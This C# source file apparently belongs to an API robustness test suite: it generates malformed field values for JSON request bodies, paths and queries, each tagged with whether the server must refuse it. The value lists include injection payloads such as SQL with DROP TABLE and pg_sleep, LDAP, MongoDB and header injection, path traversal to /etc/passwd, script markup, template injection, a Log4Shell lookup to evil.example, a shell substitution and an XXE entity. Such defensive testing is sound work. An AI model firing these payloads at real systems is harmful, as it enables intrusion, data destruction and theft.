using Google.Protobuf.Reflection;

namespace FocusSuite.BadInputs.Kinds;

/// <summary>Bad values for a field, by its kind: wrong types have to be refused, odd values may turn out to be acceptable.</summary>
public static class FieldKinds
{
    /// <summary>For each field of the body.</summary>
    public static IEnumerable<BadInput> Of(GoodRequest good) => good.Route.BodyFields.SelectMany(field =>
    {
        var values = ValuesOf(field)
            .Select(value => new BadInput($"{field.Name}: {value.Name}", good.WithMember(field.Name, value.Text), value.Verdict));
        return values
            .Append(new BadInput($"{field.Name}: missing", good.WithBody($"{{{string.Join(", ", good.Members(field.Name))}}}")))
            .Append(
                new BadInput(
                    $"{field.Name}: twice", good.WithBody($"{{{string.Join(", ", good.Members().Append($"\"{field.Name}\": null"))}}}")))
            .Append(
                new BadInput(
                    $"{field.Name}: in both cases",
                    good.WithBody($"{{{string.Join(", ", good.Members().Append($"\"{field.JsonName}\": []"))}}}")))
            .Append(new BadInput($"{field.Name}: an escaped name", good.WithBody(Escaped(good, field.Name)), Verdict.Refused));
    });

    /// <summary>Values as a path or a query has them, escaped.</summary>
    public static IEnumerable<(string Name, string Text, Verdict Verdict)> TextsOf(FieldDescriptor field) =>
        IsNumber(field) ? NumberTexts : TextTexts;

    private static IEnumerable<(string Name, string Text, Verdict Verdict)> ValuesOf(FieldDescriptor field) => field switch
    {
        { IsRepeated: true } or { FieldType: FieldType.Message } => Structures,
        { FieldType: FieldType.Bool } => Structures.Concat(Bools),
        { FieldType: FieldType.Enum } => Structures.Concat(Enums),
        { FieldType: FieldType.String or FieldType.Bytes } => Structures.Concat(Texts),
        _ => Structures.Concat(Numbers),
    };

    private static string Escaped(GoodRequest good, string name) =>
        $"{{{string.Join(", ", good.Members(name).Append($"\"\\u00{(int)name[0]:x2}{name[1..]}\": {{}}"))}}}";

    private static bool IsNumber(FieldDescriptor field) =>
        field.FieldType is not (FieldType.String or FieldType.Bytes or FieldType.Bool or FieldType.Enum or FieldType.Message);

    private static readonly (string Name, string Text, Verdict Verdict)[] Structures =
    [
        ("null", "null", Verdict.Any),
        ("an object", "{}", Verdict.Refused),
        ("an object with a value", """{"value": 1}""", Verdict.Refused),
        ("an operator", """{"$ne": null}""", Verdict.Refused),
        ("a list", "[]", Verdict.Refused),
        ("a list of one", "[1]", Verdict.Refused),
        ("a list of lists", "[[[]]]", Verdict.Refused),
        ("deep lists", new string('[', 500) + new string(']', 500), Verdict.Refused),
        ("NaN", "NaN", Verdict.Refused),
        ("undefined", "undefined", Verdict.Refused),
    ];

    private static readonly (string Name, string Text, Verdict Verdict)[] Numbers =
    [
        ("zero", "0", Verdict.Any),
        ("minus zero", "-0", Verdict.Any),
        ("minus one", "-1", Verdict.Any),
        ("a fraction", "1.5", Verdict.Refused),
        ("a whole fraction", "1.0", Verdict.Any),
        ("an exponent", "1e2", Verdict.Any),
        ("a large exponent", "1e400", Verdict.Refused),
        ("a small exponent", "1e-400", Verdict.Any),
        ("2^31", "2147483648", Verdict.Any),
        ("2^53 + 1", "9007199254740993", Verdict.Any),
        ("2^63 - 1", "9223372036854775807", Verdict.Any),
        ("2^63", "9223372036854775808", Verdict.Refused),
        ("-2^63", "-9223372036854775808", Verdict.Any),
        ("five hundred digits", new string('9', 500), Verdict.Refused),
        ("a leading zero", "01", Verdict.Refused),
        ("a plus sign", "+1", Verdict.Refused),
        ("a leading point", ".5", Verdict.Refused),
        ("hexadecimal", "0x10", Verdict.Refused),
        ("an empty text", "\"\"", Verdict.Refused),
        ("a word", "\"abc\"", Verdict.Refused),
        ("a fraction in a text", "\"1.5\"", Verdict.Refused),
        ("a space and a digit", "\" 1\"", Verdict.Refused),
        ("an Arabic digit", "\"١\"", Verdict.Refused),
        ("a thousands separator", "\"1,000\"", Verdict.Refused),
        ("hexadecimal in a text", "\"0x10\"", Verdict.Refused),
        ("NaN in a text", "\"NaN\"", Verdict.Refused),
        ("infinity in a text", "\"Infinity\"", Verdict.Refused),
        ("SQL", "\"1 OR 1=1\"", Verdict.Refused),
        ("true", "true", Verdict.Refused),
    ];

    private static readonly (string Name, string Text, Verdict Verdict)[] Bools =
    [
        ("a number", "1", Verdict.Refused),
        ("zero", "0", Verdict.Refused),
        ("a word", "\"yes\"", Verdict.Refused),
        ("an empty text", "\"\"", Verdict.Refused),
        ("the word true", "\"true\"", Verdict.Any),
        ("in capitals", "TRUE", Verdict.Refused),
    ];

    private static readonly (string Name, string Text, Verdict Verdict)[] Enums =
    [
        ("an unknown word", "\"nonsense\"", Verdict.Refused),
        ("an empty text", "\"\"", Verdict.Refused),
        ("capitals", "\"PROGRAM\"", Verdict.Any),
        ("its unspecified name", "\"SESSION_TYPE_UNSPECIFIED\"", Verdict.Any),
        ("an unknown number", "99", Verdict.Any),
        ("a negative number", "-1", Verdict.Any),
        ("a fraction", "1.5", Verdict.Refused),
        ("2^31", "2147483648", Verdict.Refused),
        ("true", "true", Verdict.Refused),
    ];

    private static readonly (string Name, string Text, Verdict Verdict)[] Texts =
    [
        ("a number", "1", Verdict.Refused),
        ("a fraction", "1.5", Verdict.Refused),
        ("true", "true", Verdict.Refused),
        ("empty", "\"\"", Verdict.Any),
        ("blank", "\" \\t\\r\\n \"", Verdict.Any),
        ("no-break blank", "\"\\u00a0\\u2003\\u3000\"", Verdict.Any),
        ("NUL", "\"a\\u0000b\"", Verdict.Any),
        ("control characters", "\"a\\u0001\\u0007\\u001b[31m\\u007f\"", Verdict.Any),
        ("a raw control character", "\"a\u0001b\"", Verdict.Refused),
        ("a high surrogate alone", "\"\\ud800\"", Verdict.Refused),
        ("a low surrogate alone", "\"\\udc00x\"", Verdict.Refused),
        ("surrogates in the wrong order", "\"\\udc00\\ud800\"", Verdict.Refused),
        ("no character", "\"\\uffff\\ufffe\"", Verdict.Any),
        ("right to left", "\"\\u202egnp.exe\\u202c\"", Verdict.Any),
        ("zero width", "\"\\u200b\\u200d\\ufeff\"", Verdict.Any),
        ("many accents on one letter", $"\"Z{string.Concat(Enumerable.Repeat("\\u0301", 3_000))}\"", Verdict.Any),
        ("emoji of several parts", $"\"{string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 800))}\"", Verdict.Any),
        ("overlong", $"\"{new string('x', 60_000)}\"", Verdict.Any),
        ("a bad escape", "\"\\x41\"", Verdict.Refused),
        ("an unclosed escape", "\"\\u12\"", Verdict.Refused),
        ("single quotes", "'text'", Verdict.Refused),
        ("SQL", "\"'; DROP TABLE accounts; --\"", Verdict.Any),
        ("SQL that waits", "\"1' AND 1=(SELECT 1 FROM pg_sleep(9))--\"", Verdict.Any),
        ("LDAP", "\"*)(uid=*))(|(uid=*\"", Verdict.Any),
        ("an operator of MongoDB", "\"{$gt: ''}\"", Verdict.Any),
        ("a header", "\"x\\r\\nX-Injected: yes\\r\\n\"", Verdict.Any),
        ("a path", "\"../../../../etc/passwd\\u0000.png\"", Verdict.Any),
        ("markup", "\"<script>alert(1)</script>\"", Verdict.Any),
        ("a template", "\"{{7*7}} ${7*7} #{7*7} <%= 7*7 %>\"", Verdict.Any),
        ("Log4Shell", "\"${jndi:ldap://evil.example/a}\"", Verdict.Any),
        ("format marks", "\"%s%n%x {0} {1:D99}\"", Verdict.Any),
        ("a shell", "\"$(id); `id` | id\"", Verdict.Any),
        ("an entity", "\"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;\"", Verdict.Any),
        ("twenty-four hexadecimal zeros", "\"000000000000000000000000\"", Verdict.Any),
        ("twenty-four capitals", "\"507F1F77BCF86CD799439011\"", Verdict.Any),
    ];

    private static readonly (string Name, string Text, Verdict Verdict)[] NumberTexts =
    [
        ("a word", "abc", Verdict.Refused),
        ("zero", "0", Verdict.Any),
        ("minus one", "-1", Verdict.Any),
        ("a plus sign", "%2B1", Verdict.Refused),
        ("a fraction", "1.5", Verdict.Refused),
        ("an exponent", "1e3", Verdict.Any),
        ("hexadecimal", "0x1", Verdict.Refused),
        ("2^31", "2147483648", Verdict.Any),
        ("2^63", "9223372036854775808", Verdict.Refused),
        ("five hundred digits", new string('9', 500), Verdict.Refused),
        ("a blank", "%20", Verdict.Refused),
        ("a blank and a digit", "%201", Verdict.Refused),
        ("NUL after a digit", "1%00", Verdict.Refused),
        ("an Arabic digit", "%D9%A1", Verdict.Refused),
        ("NaN", "NaN", Verdict.Refused),
        ("infinity", "Infinity", Verdict.Refused),
        ("null", "null", Verdict.Any),
        ("undefined", "undefined", Verdict.Refused),
        ("quotes", "%221%22", Verdict.Refused),
        ("a list", "[1]", Verdict.Refused),
        ("two with a comma", "1,2", Verdict.Refused),
        ("SQL", "1%20OR%201=1", Verdict.Refused),
        ("an encoded slash", "1%2F2", Verdict.Refused),
        ("bytes that are no UTF-8", "%ff", Verdict.Refused),
    ];

    private static readonly (string Name, string Text, Verdict Verdict)[] TextTexts =
    [
        ("nonsense", "nonsense", Verdict.Any),
        ("blank", "%20%09", Verdict.Any),
        ("NUL", "%00", Verdict.Any),
        ("bytes that are no UTF-8", "%ff%fe", Verdict.Any),
        ("a half surrogate", "%ed%a0%80", Verdict.Any),
        ("base64 of nothing", "e30%3D", Verdict.Any),
        (
            "forged",
            Convert.ToBase64String("""{"id":1,"user_id":1}"""u8.ToArray()).Replace("=", "%3D", StringComparison.Ordinal),
            Verdict.Any),
        (
            "forged bytes",
            Uri.EscapeDataString(Convert.ToBase64String([.. Enumerable.Range(0, 48).Select(at => (byte)(at * 5))])),
            Verdict.Any),
        ("two numbers", "9223372036854775807_-1", Verdict.Any),
        ("overlong", new string('t', 6_000), Verdict.Any),
        ("SQL", "'%20OR%201=1--", Verdict.Any),
        ("a path", "..%2F..%2Fetc%2Fpasswd", Verdict.Any),
        ("a line break", "x%0d%0aX-Injected:%20yes", Verdict.Any),
        ("markup", "%3Cscript%3E", Verdict.Any),
    ];
}
